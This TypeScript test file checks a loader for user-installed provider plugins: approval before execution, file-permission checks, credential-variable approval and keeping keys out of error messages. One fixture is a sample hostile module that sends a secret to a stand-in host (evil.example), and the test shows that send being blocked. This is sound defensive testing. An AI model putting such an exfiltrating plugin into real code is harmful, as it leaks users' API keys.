import { chmodSync, cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { askStub } from '../../../../testing/vendors/ask-stub.ts'
import { loadCustomProviders } from './load.ts'

const examples = fileURLToPath(new URL('../../../../examples/custom-provider/', import.meta.url))
const secret = 'squawk-madeUpKey0123456789abcdefghij'
const macawOrigin = 'https://api.macaw.example'

let folder = ''
beforeEach(() => {
  folder = mkdtempSync(path.join(tmpdir(), 'aic-custom-'))
})
afterEach(() => rmSync(folder, { recursive: true }))

const put = (name: string, content: string, mode = 0o600): void =>
  writeFileSync(path.join(folder, name), content, { mode })
const load = (approved: Readonly<Record<string, readonly string[]>> = {}) =>
  loadCustomProviders({ folder, approved, platform: 'linux' })
const problemOf = async (approved?: Readonly<Record<string, readonly string[]>>): Promise<string> => {
  const { providers, problems } = await load(approved)
  expect(providers).toEqual([])
  return problems.map(({ message }) => message).join('\n')
}
/** A module that leaves a trace when it is run. */
const traced = (id: string, origins: string) =>
  `globalThis.ran = (globalThis.ran ?? []).concat('${id}')
   export default { id: '${id}', name: 'X', payment: 'quota', origins: [${origins}], keyVariables: [], read: async () => ({}) }`
const ran = (): readonly string[] => (globalThis as { ran?: string[] }).ran ?? []

describe('the folder of custom providers', () => {
  it('need not be there', async () => {
    expect(await loadCustomProviders({ folder: path.join(folder, 'none'), approved: {}, platform: 'linux' })).toEqual({
      providers: [],
      problems: [],
    })
  })

  it('brings providers that can be asked like any other', async () => {
    cpSync(examples, folder, { recursive: true })
    const { providers, problems } = await load({ macaw: [macawOrigin] })
    expect(problems).toEqual([])
    expect(providers.map(({ id, origins }) => [id, origins])).toEqual([
      ['macaw', [macawOrigin]],
      ['parrot', ['https://api.parrot.example']],
    ])
    const [macaw, parrot] = await Promise.all(providers.map((provider) => askStub(provider, { secret })))
    expect(macaw?.reading).toMatchObject({
      account: { plan: 'Macaw Pro' },
      limits: [
        { id: 'session', usedPercent: 40, resetsAtMs: null },
        { id: 'weekly', usedPercent: 10 },
      ],
    })
    expect(parrot?.reading?.limits.map(({ id }) => id)).toEqual(['session', 'weekly:ara-2', 'weekly:kea'])
  })

  it('keeps those that are right when others are wrong', async () => {
    cpSync(path.join(examples, 'parrot.json'), path.join(folder, 'parrot.json'))
    put('budgie.json', '{}')
    put('notes.txt', 'seeds')
    const { providers, problems } = await load()
    expect(providers.map(({ id }) => id)).toEqual(['parrot'])
    expect(problems).toEqual([
      { file: path.join(folder, 'budgie.json'), message: expect.stringContaining('budgie.json describes no provider') },
    ])
  })

  it.each([
    ['Parrot.json', 'its name must be lower case letters, digits and -'],
    ['openai.json', 'aic itself has a provider openai'],
    ['openai.mjs', 'aic itself has a provider openai'],
  ])('takes no file named %s', async (name, message) => {
    put(name, '{}')
    expect(await problemOf({ openai: ['https://api.openai.com'] })).toBe(message)
  })

  it('takes no file that everybody may write, or that lies where everybody may', async () => {
    const message = 'everybody on this machine may write it or its folder, so it is not trusted: chmod o-w'
    put('parrot.json', '{}')
    chmodSync(path.join(folder, 'parrot.json'), 0o602)
    expect(await problemOf()).toBe(message)
    chmodSync(path.join(folder, 'parrot.json'), 0o600)
    chmodSync(folder, 0o757)
    expect(await problemOf()).toBe(message)
  })
})

describe('the variable of a file', () => {
  const spec = (variable: string): string =>
    JSON.stringify({
      name: 'Cuckoo',
      payment: 'quota',
      origins: ['https://api.cuckoo.example'],
      auth: { variables: [variable] },
      request: { url: 'https://api.cuckoo.example/' },
      credits: [{ label: 'Balance', remaining: 'left', unit: 'credits' }],
    })

  it('needs no approval where it begins with the name of the file', async () => {
    put('cuckoo-2.json', spec('CUCKOO_2_API_KEY'))
    expect((await load()).providers).toHaveLength(1)
  })

  it.each(['AWS_SECRET_ACCESS_KEY', 'CUCKOO_API_KEY', 'CUCKOO_2', 'X_CUCKOO_2_API_KEY'])(
    'that may be of something else (%s) is sent only where the user approved the origins',
    async (variable) => {
      put('cuckoo-2.json', spec(variable))
      const message = `it sends what ${variable} holds: approve it first, with "customProviders": {"cuckoo-2":["https://api.cuckoo.example"]} in the settings`
      expect(await problemOf()).toBe(message)
      expect(await problemOf({ 'cuckoo-2': ['https://api.other.example'] })).toBe(message)
      expect((await load({ 'cuckoo-2': ['https://api.cuckoo.example'] })).providers).toHaveLength(1)
    },
  )

  it('that another provider uses needs approval whatever the name of the file', async () => {
    put('gemini.json', spec('GEMINI_API_KEY'))
    expect(await problemOf()).toContain('it sends what GEMINI_API_KEY holds')
  })
})

describe('a module', () => {
  it('is not even run before the user approved it', async () => {
    put('jay.mjs', traced('jay', "'https://api.jay.example'"))
    expect(await problemOf()).toContain('approve it first, with "customProviders"')
    expect(ran()).not.toContain('jay')
    expect((await load({ jay: ['https://api.jay.example'] })).problems).toEqual([])
    expect(ran()).toContain('jay')
  })

  it('may ask nowhere but where the user approved', async () => {
    put('crow.mjs', traced('crow', "'https://api.crow.example', 'https://evil.example'"))
    expect(await problemOf({ crow: ['https://api.crow.example'] })).toContain('"https://evil.example"')
  })

  it('can not leave its origins by asking elsewhere, nor by naming more of them', async () => {
    put(
      'rook.mjs',
      `export default { id: 'rook', name: 'Rook', payment: 'quota', origins: ['https://api.rook.example'], keyVariables: [],
        originsOf: () => ['https://evil.example'],
        read: ({ secret }, vendor) => vendor.json({ url: 'https://evil.example/', headers: { authorization: secret } }) }`,
    )
    const { providers } = await load({ rook: ['https://api.rook.example'] })
    const { fault, requests } = await askStub(providers[0]!, { secret })
    expect(fault).toMatchObject({
      kind: 'api',
      message: expect.stringContaining('https://evil.example is none of its hosts'),
    })
    expect(requests).toEqual([])
  })

  it.each([
    ['export default 7', 'its default export is no provider'],
    ['export default { id: "wren" }', 'its provider has the id "wren" instead of the file\'s name'],
    ['export default { id: "finch", name: "Finch" }', 'its provider needs name and payment'],
    ['export default { id: "finch", name: "F", payment: "quota" }', 'its provider needs keyVariables'],
    [
      'export default { id: "finch", name: "F", payment: "quota", keyVariables: [], origins: ["http://a.example"] }',
      'needs origins',
    ],
    [
      'export default { id: "finch", name: "F", payment: "quota", keyVariables: [], origins: ["https://a.example"] }',
      'its provider needs a function read',
    ],
    ['throw new Error("broken wing")', 'broken wing'],
  ])('that is none is refused: %#', async (code, message) => {
    const name = `finch${message.length}`
    put(`${name}.mjs`, code.replaceAll('finch', name))
    expect(await problemOf({ [name]: ['https://a.example'] })).toContain(message.replaceAll('finch', name))
  })

  it.each([
    ['7', 'the file'],
    ['{ limits: [{ id: "weekly", kind: "hourly", label: "x" }] }', 'limits[0].kind'],
    ['{ limits: [{ id: "x", kind: "weekly", label: "x" }] }', 'limits[0]: the id must be the kind'],
    ['{ limits: [{ id: "weekly", kind: "weekly", label: "x", usedPercent: NaN }] }', 'limits[0].usedPercent'],
    ['{ limits: [{ id: "weekly", kind: "weekly", label: "x", unit: "money" }] }', 'limits[0]: money needs a currency'],
    ['{ costs: [{ fromMs: 0, toMs: 1, amountNano: 0.5, currency: "USD" }] }', 'costs[0].amountNano'],
  ])('that reads what is no reading is a fault: %s', async (told, where) => {
    const id = `owl${where.length}`
    put(
      `${id}.mjs`,
      `export default { id: '${id}', name: 'Owl', payment: 'quota', origins: ['https://a.example'], keyVariables: [],
        read: async () => (${told}) }`,
    )
    const { providers } = await load({ [id]: ['https://a.example'] })
    const { fault } = await askStub(providers[0]!, { secret })
    expect(fault).toMatchObject({
      kind: 'parse',
      message: expect.stringContaining(`Owl read something that is no reading, at ${where}`),
    })
  })

  it('that throws is a fault, and its words are not shown: they may hold the key', async () => {
    put(
      'hawk.mjs',
      `export default { id: 'hawk', name: 'Hawk', payment: 'quota', origins: ['https://a.example'], keyVariables: [],
        read: async ({ secret }) => { throw new Error('with ' + secret) } }`,
    )
    const { providers } = await load({ hawk: ['https://a.example'] })
    const { fault } = await askStub(providers[0]!, { secret })
    expect(fault).toMatchObject({ kind: 'parse' })
    expect(fault?.message).not.toContain(secret)
  })
})
